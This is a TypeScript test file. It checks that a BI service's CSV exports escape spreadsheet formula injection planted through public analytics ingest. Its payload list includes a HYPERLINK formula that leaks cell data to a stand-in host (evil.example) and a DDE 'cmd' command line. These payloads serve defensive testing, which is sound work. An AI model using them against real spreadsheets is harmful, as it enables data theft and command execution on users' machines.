// Spreadsheet formula injection: object IDs planted through public ingest (a site key from a web page)
// reach a BI export's CSV as text, never as a live formula; negative numbers stay numbers.
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { Harness, MutableClock, type TestWorkspace, usingPostgres } from './helpers/harness.ts';

const ORIGIN = 'https://shop.example.com';
let h: Harness;
let ws: TestWorkspace;

const call = (method: string, url: string, body?: unknown) =>
  h.request(method, url, { token: ws.apiKey, body });

// What a visitor sends as object_id, and the cell the CSV must hold for it.
const PLANTED: [string, string][] = [
  ['=HYPERLINK("http://evil.example/?"&A1,"Click")', `"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`],
  ["+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"],
  ['-2+3+cmd', "'-2+3+cmd"],
  ['@SUM(1,1)', `"'@SUM(1,1)"`],
  ['\t=1+1', "'\t=1+1"],
  ['\r=1+1', `"'\r=1+1"`],
  ['\uFF1D1+1', "'\uFF1D1+1"],
  ['plain-id', 'plain-id'],
];

beforeAll(async () => {
  h = await Harness.start({
    clock: new MutableClock(new Date('2026-11-21T12:00:00.000Z')),
    env: { WOS_WORKER: 'on', WOS_WORKER_POLL_MS: '50' },
  });
  ws = await h.workspace('Formulas');
});
afterAll(() => h.close());

describe(`CSV exports neutralise formulas (${usingPostgres ? 'PostgreSQL' : 'SQLite'})`, () => {
  it('writes planted formulas as text and negative numbers as numbers', async () => {
    const site = await call('POST', '/v1/insights/sites', { name: 'Shop', allowed_origins: [ORIGIN] });
    expect(site.status, site.text).toBe(201);
    const ingest = await h.request(
      'POST',
      `/v1/insights/app-events?site_key=${site.body.analytics_site.site_key}`,
      {
        headers: { origin: ORIGIN },
        body: {
          events: PLANTED.map(([objectId]) => ({
            app: 'shop',
            event_name: 'page.viewed',
            object_type: 'page',
            object_id: objectId,
          })),
        },
      },
    );
    expect(ingest.status, ingest.text).toBe(202);
    expect(ingest.body.accepted).toBe(PLANTED.length);

    const metric = await call('POST', '/v1/bi/metrics', {
      key: 'events_negated',
      name: 'Events negated',
      dataset_key: 'app_events',
      expression: '-sum(events)',
      format: 'number',
    });
    expect(metric.status, metric.text).toBe(201);
    const run = await call('POST', '/v1/bi/queries/run', {
      dataset_key: 'app_events',
      dimensions: ['object_id'],
      measures: [{ column: 'events', aggregate: 'sum', as: 'events' }, { metric: 'events_negated' }],
    });
    expect(run.status, run.text).toBe(200);
    // The API answers the values as they are; only the CSV file escapes them.
    expect(run.body.result.rows.map((r: { object_id: string }) => r.object_id).sort()).toEqual(
      PLANTED.map(([id]) => id).sort(),
    );

    const created = await call('POST', '/v1/bi/exports', {
      name: 'Objects',
      format: 'csv',
      query_id: run.body.query.id,
    });
    expect(created.status, created.text).toBe(202);
    const done = await vi.waitFor(
      async () => {
        await h.worker!.tick();
        const found = (await call('GET', `/v1/bi/exports/${created.body.export.id}`)).body.export;
        if (found.status !== 'completed') throw new Error(found.status);
        return found;
      },
      { timeout: 30_000, interval: 50 },
    );
    const url = new URL(done.download.url);
    const file = await h.request('GET', `${url.pathname}${url.search}`);
    expect(file.status).toBe(200);
    const [header, ...lines] = file.text.split('\n');
    expect(header).toBe('object_id,events,events_negated');
    expect(lines.pop()).toBe('');
    expect(lines.sort()).toEqual(PLANTED.map(([, cell]) => `${cell},1,-1`).sort());
  });
});
